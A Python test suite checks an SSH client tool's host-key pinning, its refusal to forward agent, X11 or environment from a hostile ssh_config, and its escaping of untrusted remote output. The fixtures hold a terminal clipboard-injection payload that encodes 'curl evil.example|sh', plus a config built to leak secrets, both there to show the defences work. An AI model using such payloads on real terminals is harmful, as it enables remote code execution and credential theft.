"""Host keys against a real sshd: unknown asks, wrong is refused before login."""

from __future__ import annotations

import asyncio
import re
import signal
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from piwork.cli.main import main
from piwork.hosts import store
from piwork.hosts.check import run_check
from piwork.hosts.connect import (
    HostKeyMismatch,
    HostKeyUnknown,
    connect,
    fingerprint_matcher,
)
from tests.helpers.hosts import Sshd


async def test_unknown_key_is_not_trusted_without_consent(sshd: Sshd) -> None:
    host = sshd.host()
    asked = []

    def refuse(info: object) -> bool:
        asked.append(info)
        return False

    with pytest.raises(HostKeyUnknown, match=re.escape(sshd.fingerprint)):
        await connect(host, refuse)
    assert len(asked) == 1
    assert not store.known_hosts_file().exists()
    assert "Accepted publickey" not in sshd.log.read_text()


async def test_accepted_fingerprint_is_remembered(sshd: Sshd) -> None:
    host = sshd.host()
    conn = await connect(host, fingerprint_matcher(sshd.fingerprint, None))
    try:
        assert (await conn.run("echo hi", check=True)).stdout == "hi\n"
    finally:
        conn.close()
        await conn.wait_closed()
    line = store.known_hosts_file().read_text()
    assert line.startswith(f"[127.0.0.1]:{sshd.port} ssh-ed25519 ")
    conn = await connect(host, None)  # now known: no question
    conn.close()
    await conn.wait_closed()


async def test_wrong_fingerprint_flag_does_not_trust(sshd: Sshd) -> None:
    wrong = "SHA256:" + "A" * 43
    with pytest.raises(HostKeyUnknown):
        await connect(sshd.host(), fingerprint_matcher(wrong, None))
    assert not store.known_hosts_file().exists()


def _plant_other_key(sshd: Sshd, path: Path) -> None:
    other = sshd.dir / "other_key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(other)], check=True)
    entry = " ".join(Path(f"{other}.pub").read_text().split()[:2])
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"[127.0.0.1]:{sshd.port} {entry}\n")


@pytest.mark.parametrize("where", ["user", "piwork"])
async def test_wrong_key_is_refused_before_login(sshd: Sshd, where: str) -> None:
    """A known_hosts entry with another key: refused even when a prompt would say yes."""
    path = Path.home() / ".ssh" / "known_hosts" if where == "user" else store.known_hosts_file()
    _plant_other_key(sshd, path)
    with pytest.raises(HostKeyMismatch, match="NOT the one trusted"):
        await connect(sshd.host(), lambda _info: True)
    assert "Accepted publickey" not in sshd.log.read_text()
    assert not await asyncio.to_thread(Path(sshd.host().root).exists)


def test_cli_add_list_check_rm(sshd: Sshd, capsys: pytest.CaptureFixture[str]) -> None:
    target = f"{sshd.user}@127.0.0.1:{sshd.port}"
    common = ["--identity", str(sshd.user_key), "--root", str(sshd.dir / "root")]
    # Not at a terminal and no fingerprint given: refused, nothing recorded.
    assert main(["hosts", "add", "box", target, *common]) == 1
    err = capsys.readouterr().err
    assert sshd.fingerprint in err and "--host-key-fingerprint" in err
    assert store.load() == {}
    rc = main(["hosts", "add", "box", target, *common, "--host-key-fingerprint", sshd.fingerprint])
    out = capsys.readouterr().out
    assert rc in (0, 1), out  # 1 only if the check found a problem; the host is added anyway
    assert "added box" in out and "qemu" in out and "accel" in out
    assert main(["hosts", "list"]) == 0
    assert target in capsys.readouterr().out
    main(["hosts", "check", "box", "--json"])
    report = __import__("json").loads(capsys.readouterr().out)
    assert report["system"] == "Linux"
    assert report["qemu_version"].startswith("QEMU emulator version")
    assert report["accel"] in ("kvm", "tcg")
    assert int(report["mem_available_kb"]) > 0 and int(report["disk_free_kb"]) > 0
    assert main(["hosts", "add", "box", target]) == 1  # exists
    assert main(["hosts", "rm", "box"]) == 0
    assert main(["hosts", "rm", "box"]) == 1
    assert "no host named 'box'" in capsys.readouterr().err


async def test_check_says_when_sshd_refuses_channels_to_unix_sockets(sshd: Sshd) -> None:
    host = sshd.host()
    conn = await connect(host, fingerprint_matcher(sshd.fingerprint, None))
    try:
        before = await run_check(conn, host.root)
    finally:
        conn.close()
        await conn.wait_closed()
    assert before.values["ssh_streamlocal"] == "1"
    assert not any("unix sockets" in p for p in before.problems)
    config = sshd.dir / "sshd_config"
    config.write_text(
        config.read_text().replace("AllowTcpForwarding local", "AllowTcpForwarding no")
    )
    started = sshd.log.read_text().count("Server listening")
    sshd.proc.send_signal(signal.SIGHUP)  # sshd re-executes itself with the new config
    for _ in range(100):
        if sshd.log.read_text().count("Server listening") > started:
            break
        await asyncio.sleep(0.1)
    conn = await connect(host, None)
    try:
        after = await run_check(conn, host.root)
    finally:
        conn.close()
        await conn.wait_closed()
    assert after.values["ssh_streamlocal"] == "0"
    assert any("AllowStreamLocalForwarding" in p for p in after.problems)


# --------------------------------------------------------------------------- review 2


def _hostile_ssh_config(home: Path) -> None:
    """What many people have for every host, and what a malicious remote wants."""
    (home / ".ssh" / "config").write_text(
        "Host *\n"
        "  ForwardAgent yes\n"
        "  ForwardX11Trusted yes\n"
        "  SendEnv PIWORK_LEAK\n"
        "  SetEnv PIWORK_SET=planted\n"
        "  RequestTTY force\n"
    )


@pytest.fixture
def hostile_client(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The client side of finding 9: that ssh_config, an agent, an X display, a secret."""
    import os

    _hostile_ssh_config(Path(os.environ["HOME"]))
    agent_sock = tmp_path / "agent.sock"
    agent = subprocess.Popen(["ssh-agent", "-D", "-a", str(agent_sock)],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
    try:
        for _ in range(100):
            if agent_sock.exists():
                break
            time.sleep(0.05)
        monkeypatch.setenv("SSH_AUTH_SOCK", str(agent_sock))
        monkeypatch.setenv("PIWORK_LEAK", "a local secret")
        xauth = tmp_path / "Xauthority"
        subprocess.run(["xauth", "-f", str(xauth), "add", ":99", "MIT-MAGIC-COOKIE-1",
                        "0123456789abcdef0123456789abcdef"], check=True)  # fmt: skip
        monkeypatch.setenv("XAUTHORITY", str(xauth))
        monkeypatch.setenv("DISPLAY", ":99")
        yield
    finally:
        agent.terminate()
        agent.wait()


async def test_ssh_config_never_forwards_the_agent_x11_or_environment(
    sshd: Sshd, hostile_client: None
) -> None:
    """Review 2, finding 9: with ``ForwardAgent yes`` in ssh_config a malicious remote could
    use the person's agent while piwork's long sessions run; X11 and SendEnv alike."""
    import asyncssh

    config = sshd.dir / "sshd_config"
    config.write_text(
        config.read_text()
        .replace("LogLevel VERBOSE", "LogLevel DEBUG1")
        .replace("X11Forwarding no", "X11Forwarding yes")
    )
    started = sshd.log.read_text().count("Server listening")
    sshd.proc.send_signal(signal.SIGHUP)
    for _ in range(100):
        if sshd.log.read_text().count("Server listening") > started:
            break
        await asyncio.sleep(0.1)
    show = 'echo "agent=$SSH_AUTH_SOCK|set=$PIWORK_SET|leak=$PIWORK_LEAK|display=$DISPLAY"'
    host = sshd.host()

    async def session(conn: asyncssh.SSHClientConnection) -> str:
        before = len(sshd.log.read_text())
        result = await conn.run(show, check=True)
        conn.close()
        await conn.wait_closed()
        await asyncio.sleep(0.3)
        return str(result.stdout).strip() + "\n" + sshd.log.read_text()[before:]

    # The attack is real: a plain asyncssh connection follows the config.
    control = await session(
        await asyncssh.connect(
            "127.0.0.1", port=sshd.port, username=sshd.user,
            client_keys=[str(sshd.user_key)], known_hosts=None,
        )
    )  # fmt: skip
    assert "set=planted" in control and "leak=a local secret" in control
    assert "auth-agent-req" in control and "x11-req" in control
    assert not control.startswith("agent=|")

    pinned = await session(await connect(host, fingerprint_matcher(sshd.fingerprint, None)))
    print(pinned)
    assert pinned.startswith("agent=|set=|leak=|display=\n"), pinned
    for request in ("auth-agent-req", "x11-req", "pty-req", "env"):
        assert f"request {request}" not in pinned, request


def test_hosts_check_prints_remote_text_inert(capsys: pytest.CaptureFixture[str]) -> None:
    """Review 2, finding 7: the remote's probe output (its QEMU's version line, its system
    name, its numbers) is untrusted; printed raw, it can write the clipboard."""
    from piwork.cli.hosts_cmd import _print_report
    from piwork.hosts.check import parse, report

    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
    output = "\n".join(
        [
            f"qemu_path=/usr/bin/qemu{osc52}",
            f"qemu_version=QEMU emulator version 9.9 {osc52}\x1b[1A\x1b[2K\u202e",
            f"system=Plan9{osc52}\x9b2J",
            "mem_available_kb=lots\x1b[2J",
            "disk_free_kb=١٢٣",  # digits, but not ASCII ones
            "kvm_exists=yes",
            f"evil_key=1{osc52}",
            "cpu_flags=" + "x" * 100_000,
        ]
    )
    values = parse(output)
    assert "mem_available_kb" not in values and "disk_free_kb" not in values
    assert "kvm_exists" not in values and "evil_key" not in values and "cpu_flags" not in values
    _print_report(store.parse_target("box", "a@box"), report(values))
    out = capsys.readouterr().out
    for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert raw not in out, repr(raw)
    assert "\\x1b]52;c;" in out  # shown escaped: the person sees something was there
    assert "memory   0 MiB available" in out and "disk     0 GiB free" in out


async def test_hosts_check_through_ssh_with_a_hostile_qemu(
    sshd: Sshd, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The same through a real login: the remote's QEMU says what it likes for --version."""
    from piwork.cli.hosts_cmd import _print_report

    fake = tmp_path / "qemu-system-x86_64"
    fake.write_text("#!/bin/sh\nprintf 'QEMU \\033]52;c;ZXZpbA==\\007\\033[2J version\\n'\n")
    fake.chmod(0o755)
    host = sshd.host()
    conn = await connect(host, fingerprint_matcher(sshd.fingerprint, None))
    try:
        rep = await run_check(conn, host.root, qemu=str(fake), probe_sockets=False)
    finally:
        conn.close()
        await conn.wait_closed()
    assert rep.values["qemu_version"].startswith("QEMU \x1b]52")  # what the remote sent
    _print_report(host, rep)
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "qemu     QEMU \\x1b]52;c;ZXZpbA==\\x07\\x1b[2J version" in out
